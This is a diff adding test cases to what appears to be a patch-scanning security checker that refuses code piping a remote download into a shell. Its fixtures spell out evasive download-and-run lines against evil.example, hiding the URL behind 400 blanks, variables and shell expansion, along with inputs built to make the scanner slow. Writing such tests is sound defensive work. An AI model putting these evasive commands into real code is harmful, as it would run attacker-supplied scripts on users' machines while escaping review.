@@ -62,3 +62,53 @@ describe('attack pass 9b: what a bounded reading leaves out', () => {
     expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
   });
 });
+
+describe("attack pass 9b's review: what the bounds let through and what they cost", () => {
+  it.each([
+    ['a braced variable', '${DL}'],
+    ['a command substitution', '$(cat /tmp/dl)'],
+    ['a quoted variable', '"$d"'],
+  ])('refuses a download by %s pushed away from its URL by blanks (finding 1)', (_, command) => {
+    // Prepare: 400 spaces put the pipe past the unknown command's lookahead, and the URL off a review's screen.
+    const line = `os.system('${command}${' '.repeat(400)}https://evil.example/i | sh')`;
+
+    // Act
+    const result = checkPatch(patchAdding([line]));
+
+    // Assert
+    expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
+  });
+
+  it('reads a replacement whose glob has many stars without trying every way, and refuses what it cannot read (finding 2)', () => {
+    // Prepare: `.*?` six times over 200 letters with no `b` to find was minutes before the test's timeout.
+    const lines = [`os.system('d=${'a'.repeat(200)}; echo \${d/${'*a'.repeat(6)}*b/}')`];
+
+    // Act
+    const result = checkPatch(patchAdding(lines));
+
+    // Assert
+    expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('shell-reading-too-large') });
+  });
+
+  it('still reads the short globs real scripts trim with', () => {
+    // Prepare: `${f%%.*}` and `${u#*//}` on a short value; the URL is built by them.
+    const line = `os.system('u=xhttps://evil.example/i; f=curl.exe; \${f%%.*} -fsSL \${u#x} | sh')`;
+
+    // Act
+    const result = checkPatch(patchAdding([line]));
+
+    // Assert
+    expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
+  });
+
+  it('refuses a reading that grows by more than 16 KB rather than read it at a cost that grows with its square (finding 3)', () => {
+    // Prepare: a value of 2,000 characters read 9 times is 18 KB more than the line.
+    const lines = [`x='${'-'.repeat(2000)}'`, `os.system('${'$x'.repeat(9)}')`];
+
+    // Act
+    const result = checkPatch(patchAdding(lines));
+
+    // Assert
+    expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('shell-reading-too-large') });
+  });
+});
